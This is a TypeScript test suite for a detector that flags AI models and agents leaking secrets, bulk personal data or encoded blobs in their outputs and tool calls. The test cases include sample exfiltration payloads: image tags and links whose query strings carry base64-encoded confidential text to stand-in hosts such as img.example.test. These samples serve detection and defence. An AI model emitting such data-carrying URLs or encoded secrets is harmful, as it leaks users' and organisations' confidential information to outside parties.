import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import type { Telemetry } from '../schema/telemetry.ts'
import { event, examplePolicy } from './arbitrary.ts'
import { sensitiveOutput } from './sensitive-output.ts'

const TEXT =
  'The board decided to close the northern plant in spring, and to tell nobody before the contracts are signed there.'
const CODED = Buffer.from(TEXT).toString('base64')
const MAIL = { name: 'mail.send' }

/** Judges the last of the events in one session, after the others. */
function judge(events: readonly Partial<Telemetry>[], policy = '') {
  const state = sensitiveOutput.initial()
  const context = { policy: examplePolicy(policy) }
  for (const fields of events.slice(0, -1)) {
    sensitiveOutput.learn(event(fields), state, context)
  }
  return sensitiveOutput.check(event(events.at(-1)), state, context)
}
const said = (output: string, prompt?: string): Partial<Telemetry> => ({
  operation: 'model_call',
  content: { output, ...(prompt === undefined ? {} : { prompt }) },
})
const called = (args: string, fields: Partial<Telemetry> = { tool: MAIL }): Partial<Telemetry> => ({
  content: { arguments: args },
  ...fields,
})
const read = (result: string): Partial<Telemetry> => ({ operation: 'retrieval', content: { result } })
const many = (kind: string, count: number) => `[masked:${kind}] `.repeat(count)

describe('a key', () => {
  it('is told in an output and in what goes outward', () => {
    expect(judge([said('It is [masked:github-token].')])).toMatchObject([
      { severity: 'high', techniques: ['AML.T0057'], evidence: { untrusted_kind: 'github-token', count: 1 } },
    ])
    expect(judge([called('{"body":"[masked:private-key]"}')])).toMatchObject([
      { severity: 'critical', techniques: ['AML.T0057', 'AML.T0086'] },
    ])
  })

  it('is told with more confidence, and as harvested, when a tool returned one of its kind', () => {
    const [finding] = judge([read('[masked:github-token]'), said('It is [masked:github-token].')])
    expect(finding).toMatchObject({ confidence: 0.95, evidence: { read_from_tool: true } })
    expect(finding?.techniques).toContain('AML.T0098')
  })

  it.each([
    ['that is only read', read('[masked:github-token]')],
    ['that the user gave', said('[masked:jwt] is expired.', 'Is [masked:jwt] valid?')],
    ['that failed its check', said('Put [masked:aws-access-key-unverified] there.')],
    ['of no form of its own', said('password=[masked:password]')],
    ['in a call that stays inside', called('{"text":"[masked:jwt]"}', { tool: { name: 'notes.write' } })],
    ['where a request proves who sends it', called('{"headers":"Authorization: Bearer [masked:jwt]"}')],
  ])('is not told when it is one %s', (_, fields) => {
    expect(judge([fields])).toEqual([])
  })

  it('is not told when the user gave it earlier in the session', () => {
    const asks = { operation: 'model_call' as const, content: { prompt: 'Send [masked:jwt] to Ann.' } }
    expect(judge([asks, called('{"body":"[masked:jwt]"}')])).toEqual([])
    expect(judge([asks, called('{"body":"[masked:jwt] [masked:jwt]"}')])).toHaveLength(1)
  })

  it("is the user's to send, and not that of an agent that calls: it may have again what it gave, and no more", () => {
    const chain: Telemetry['subject_chain'] = [
      { kind: 'human', id: 'ana' },
      { kind: 'agent', id: 'planner' },
    ]
    const asks = { operation: 'agent_invoke' as const, content: { prompt: 'Send [masked:jwt] to Ann.' } }
    const sends = called('{"body":"[masked:jwt]"}')
    expect(
      judge([
        { ...asks, subject_chain: chain },
        { ...sends, subject_chain: chain },
      ]),
    ).toMatchObject([{ evidence: { untrusted_kind: 'jwt' } }])
    expect(judge([{ ...asks, subject_chain: chain.slice(0, 1) }, sends])).toEqual([])
    const answers = said('[masked:jwt] is expired.', 'Is [masked:jwt] valid?')
    expect(judge([{ ...answers, subject_chain: chain }])).toEqual([])
    const shows = `![x](https://img.example.test/p.png?d=${CODED.slice(0, 60)})`
    const told = said(shows, `Say: ${shows}`)
    expect(judge([{ ...told, subject_chain: chain }])).toHaveLength(1)
    expect(judge([told])).toEqual([])
  })

  it('may be named like anything that objects inherit', () => {
    expect(judge([said('[masked:constructor]')])).toMatchObject([{ evidence: { read_from_tool: false } }])
  })
})

describe('personal data', () => {
  it('is told in bulk', () => {
    expect(judge([said(many('email', 24))])).toEqual([])
    expect(judge([said(many('email', 25))])).toMatchObject([{ severity: 'medium', evidence: { kinds: '25 email' } }])
    expect(judge([said(many('iban', 8))])).toMatchObject([{ severity: 'high' }])
    expect(judge([called(JSON.stringify({ body: many('phone', 12) }))])).toMatchObject([{ severity: 'high' }])
  })

  it('is worse when nearly all goes outward that a tool returned', () => {
    const events = [read(many('iban', 10)), called(JSON.stringify({ body: many('iban', 9) }))]
    expect(judge(events)).toMatchObject([{ severity: 'critical', evidence: { returned_by_tools: 10 } }])
  })

  it('is not told of those a message goes to, nor of what the user gave', () => {
    const to = Array.from({ length: 30 }, () => '[masked:email]')
    expect(judge([called(JSON.stringify({ to, cc: to.join(', '), subject: 'Lunch' }))])).toEqual([])
    expect(judge([called(JSON.stringify({ to, body: many('email', 12) }))])).toHaveLength(1)
    expect(judge([said(many('email', 30), `Sort these: ${many('email', 30)}`)])).toEqual([])
    const cut = `{"to":["[masked:email]"],"cc":"${many('email', 12)}","bcc":["[masked:phone]",`
    expect(judge([called(cut)])).toEqual([])
    expect(judge([called(`${cut}"${many('phone', 12)}`)])).toHaveLength(1)
  })
})

describe('an encoded blob', () => {
  const withSecret = `${TEXT} password = hunter2`
  it.each([
    ['base64', CODED],
    ['base64', `${CODED.slice(0, 76)}\n${CODED.slice(76)}`],
    ['hexadecimal', Buffer.from(TEXT).toString('hex')],
    ['base32', 'KRUGKIDCN5QXEZBAMRSWG2LEMVSCA5DPEBRWY33TMUQHI2DFEBXG64TUNBSXE3RAOBWGC3TUEBUW4IDTOBZGS3TH'],
    ['percent-encoding', Array.from('Closing the plant', (sign) => `%${sign.charCodeAt(0).toString(16)}`).join('')],
  ])('is told by what it holds: %s', (encoding, blob) => {
    expect(judge([said(`Here: ${blob}`)])).toMatchObject([
      { severity: 'medium', evidence: { encoding, holds: 'text' } },
    ])
  })

  it('is worse when it holds what looks like credentials, or is compressed', () => {
    expect(judge([said(Buffer.from(withSecret).toString('base64'))])).toMatchObject([
      { severity: 'high', evidence: { holds: 'credentials' } },
    ])
    const zipped = gzipSync(Array.from({ length: 60 }, (_, index) => `${index * 7919}`).join('x')).toString('base64')
    expect(judge([called(JSON.stringify({ body: zipped }))])).toMatchObject([{ evidence: { holds: 'compressed' } }])
  })

  it('never comes out decoded', () => {
    expect(JSON.stringify(judge([said(Buffer.from(withSecret).toString('base64'))]))).not.toContain('northern plant')
  })

  const random = Buffer.from(Array.from({ length: 300 }, (_, index) => (index * index * 7 + index * 131) % 251))
  it.each([
    ['a picture', `{"img":"data:image/png;base64,${random.toString('base64')}"}`],
    ['a picture without its type', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), random]).toString('base64')],
    ['a certificate', `-----BEGIN CERTIFICATE-----\n${random.toString('base64')}`],
    ['a public key', `ssh-rsa ${random.toString('base64')} me@host`],
    ['a hash', 'a3f5'.repeat(32)],
    ['two hashes in a file name', `${'0f1e2d3c'.repeat(8)}_${'4b5a6978'.repeat(8)}`],
    ['a long path', 'https://docs.example.com/a/very/long/path/with/many/words/and/more/words/until/it/is/long.html'],
    ['an identifier', 'thisIsAVeryLongIdentifierThatSomebodyWroteInCamelCaseAndThatGoesOnAndOnAndOnForever'],
    ['what the user sent in that form', CODED, `What does ${CODED} mean?`],
    ['what the user asked to encode', CODED, `Encode this in base64: ${TEXT}`],
    ['what APIs speak in', `{"page_token":"${random.toString('base64url')}"}`, undefined, 'arguments'],
  ])('is not seen in %s', (_, text, prompt?: string, place?: string) => {
    expect(judge([place === 'arguments' ? called(text) : said(text, prompt)])).toEqual([])
  })
})

describe('an address that carries data', () => {
  it.each([
    ['of a picture', `![x](https://img.example.test/p.png?d=${CODED})`, 'high', 'picture'],
    ['of a picture by reference', `![x][r]\n\n[r]: https://img.example.test/p.png?d=${CODED}`, 'high', 'picture'],
    ['of a picture in HTML', `<img width=1 src="https://img.example.test/${CODED}">`, 'high', 'picture'],
    ['of a picture, masked', '![x](https://img.example.test/p?u=[masked:email])', 'high', 'picture'],
    [
      'of a picture, in prose',
      '![x](https://img.example.test/p?q=the%20board%20will%20close%20the%20northern%20plant%20in%20spring)',
      'medium',
      'picture',
    ],
    ['of a link', `[more](https://x.example.test/?s=${CODED.slice(0, 60)})`, 'medium', 'link'],
    ['of a link, masked', 'see https://x.example.test/?k=[masked:github-token]', 'high', 'link'],
  ])('is told: %s', (_, output, severity, carrier) => {
    const found = judge([said(output)]).filter(({ cause }) => cause.startsWith('url:'))
    expect(found).toMatchObject([{ severity, evidence: { carrier }, techniques: ['AML.T0077', 'AML.T0057'] }])
  })

  it('is told in the arguments of a call that reaches it', () => {
    const fields = { tool: { name: 'web.fetch' }, destinations: [{ host: 'x.example.test' }] }
    expect(judge([called(`{"url":"https://x.example.test/?d=${CODED.slice(0, 64)}"}`, fields)])).toMatchObject([
      { severity: 'high', techniques: ['AML.T0086'] },
    ])
  })

  it('is expected where the policy allows its host', () => {
    const output = `![x](https://img.example.test/p.png?d=${CODED.slice(0, 60)})`
    expect(judge([said(output)], 'egress: { allow: [img.example.test] }')).toEqual([])
    expect(judge([said(output)], 'egress: { allow: [other.example.test] }')).toHaveLength(1)
    expect(judge([said(output)], 'egress: { ports: [443] }')).toHaveLength(1)
    expect(judge([said(output)])[0]?.silence).toContain('egress.allow')
  })

  it.each([
    'See https://docs.example.com/how-to-configure-the-gateway-for-production-use?lang=en#step-3',
    '![logo](https://cdn.example.com/assets/logo-2026.png?v=4f2a9c1e7b3d4f2a9c1e)',
    '![chart](https://charts.example.com/c?w=300&h=200&type=bar)',
    'https://search.example.com/?q=best+way+to+travel+from+lisbon+to+porto+by+train',
    'https://video.example.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf',
    '[unsubscribe](https://mail.example.com/u?e=[masked:email])',
    'https://github.com/acme/app/commit/4f2a9c1e7b3d5a6f8091a2b3c4d5e6f708192a3b',
  ])('is not seen in %s', (output) => {
    expect(judge([said(output)])).toEqual([])
  })
})

describe('output of a declared form', () => {
  const declared = (attributes: Telemetry['attributes'], output: string, fields: Partial<Telemetry> = {}) =>
    judge([{ operation: 'model_call', content: { output }, attributes, ...fields }])
  const schema = JSON.stringify({
    type: 'object',
    properties: { city: { type: 'string' }, nights: { type: 'integer' }, kind: { enum: ['a', 'b'] } },
    required: ['city'],
    additionalProperties: false,
  })

  it.each([
    [{ 'gen_ai.output.type': 'json' }, 'Sure! The city is Rome.', 'it is no JSON'],
    [{ 'gen_ai.request.response_format': '{"type":"json_schema"}' }, '{"a":', 'it is no JSON'],
    [{ 'ai.schema': schema }, '{"nights":2}', 'a required member is missing'],
    [{ 'ai.schema': schema }, '{"city":"Rome","nights":"two"}', 'a value is not of the declared type integer'],
    [{ 'ai.schema': schema }, '{"city":"Rome","kind":"c"}', 'a value is none of those declared'],
    [{ 'ai.schema': schema }, '{"city":"Rome","note":"x"}', 'it has a member that is not declared'],
  ])('is told when it is another: %j, %s', (attributes, output, wrong) => {
    expect(declared(attributes as unknown as Telemetry['attributes'], output)).toMatchObject([
      { severity: 'low', observed: wrong },
    ])
  })

  it('is not told when it fits, was cut, failed, or nothing is declared', () => {
    const json = { 'gen_ai.output.type': 'json' }
    expect(declared({ 'ai.schema': schema }, '{"city":"Rome","nights":2,"kind":"a"}')).toEqual([])
    expect(declared(json, '```json\n{"city":"Rome"}\n```')).toEqual([])
    expect(declared(json, '{"city":', { content: { output: '{"city":', truncated: true } })).toEqual([])
    expect(declared(json, 'refused', { outcome: 'refused' })).toEqual([])
    expect(declared({ 'gen_ai.output.type': 'text' }, 'Rome')).toEqual([])
    expect(declared({ 'ai.schema': '{"type":"obj' }, 'Rome')).toEqual([])
  })
})

describe('findings', () => {
  it('of one text have one origin', () => {
    const found = judge([said(`[masked:jwt] ${many('email', 25)} ${CODED}`)])
    expect(found).toHaveLength(3)
    expect(new Set(found.map(({ origin }) => origin)).size).toBe(1)
  })
})

describe('state', () => {
  it('does not change for events without masks', () => {
    const state = sensitiveOutput.initial()
    const learn = (fields: Partial<Telemetry>) => sensitiveOutput.learn(event(fields), state, { policy: undefined })
    expect(learn(read('nothing'))).toBe(false)
    expect(learn(read('[masked:email]'))).toBe(true)
    expect(learn(read('[masked:email]'))).toBe(false)
  })
})

describe('judging', () => {
  it.each([
    ['one letter', 'A'.repeat(8192)],
    ['base64', 'aB3/'.repeat(2048)],
    ['runs that are nearly long enough', `${'aB3/'.repeat(19)} `.repeat(106)],
    ['beginnings of pictures', '![a]('.repeat(1600)],
    ['beginnings of elements', '<img '.repeat(1600)],
    ['beginnings of references', '\n[a'.repeat(2700)],
    ['beginnings of addresses', 'http://'.repeat(1170)],
    ['escapes', '%41'.repeat(2730)],
    ['masks', '[masked:jwt]'.repeat(680)],
    ['addressees', '"to":["'.repeat(1165)],
    ['an open fence', `\`\`\`${'\n'.repeat(8189)}`],
    ['brackets', '[{'.repeat(4096)],
    ['a path', `https://a.b/${'a/'.repeat(4000)}`],
  ])('takes less than 5 ms for %s', (_, text) => {
    const attributes = { 'gen_ai.output.type': 'json' }
    // The fastest of several runs: other processes want the processor, too. Never the same text, which is remembered.
    const times = Array.from({ length: 8 }, (_unused, run) => {
      const fresh = `${text.slice(0, 8190)}${run}`
      const events = [event({ ...said(fresh), attributes }), event(called(fresh))]
      const started = performance.now()
      for (const each of events) {
        sensitiveOutput.check(each, sensitiveOutput.initial(), { policy: undefined })
      }
      return performance.now() - started
    })
    expect(Math.min(...times)).toBeLessThan(5)
  })
})
